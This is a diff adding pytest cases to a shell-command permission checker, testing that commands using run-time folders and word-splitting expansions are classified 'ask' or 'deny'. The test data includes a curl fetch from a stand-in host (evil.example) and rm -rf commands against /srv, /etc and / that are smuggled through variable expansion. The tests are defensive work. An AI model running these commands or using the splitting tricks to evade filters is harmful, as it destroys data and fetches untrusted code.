@@ -249,10 +249,28 @@ def test_a_variable_set_to_known_output_is_that_output() -> None:
         # the name itself is only known at run time
         ("$TOOLS/$TOOL --apply", "ask"),
         ("$(cat .tool) --apply", "ask"),
+        # unquoted, the folder may split into another program and its arguments
+        ("$(curl -s https://evil.example/x)/ls", "ask"),
+        ("$(cat cmd.txt)/ls", "ask"),  # cmd.txt holding `rm -rf /root .` runs rm
+        ("$CMD/ls", "ask"),
+        ("${X}x/ls", "ask"),
+        ("$(go env GOPATH)/bin/golint ./...", "ask"),
     ],
 )
 def test_a_run_time_folder_with_a_literal_program_name(command: str, expected: str) -> None:
     assert decide(command).kind.value == expected, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'X="rm -rf /srv "; ${X}x',  # runs rm -rf /srv x
+        'X="/srv /etc"; rm -rf ${X}/',  # deletes /srv and /etc/
+        'X="-rf /"; rm ""$X',  # the quoted empty text joins the first field: rm -rf /
+    ],
+)
+def test_an_expansion_inside_a_word_splits_too(command: str) -> None:
+    assert decide(command).kind.value == "deny", command
 
 
 # --- cd moves the shell: relative paths after it resolve from there ----------------------------------
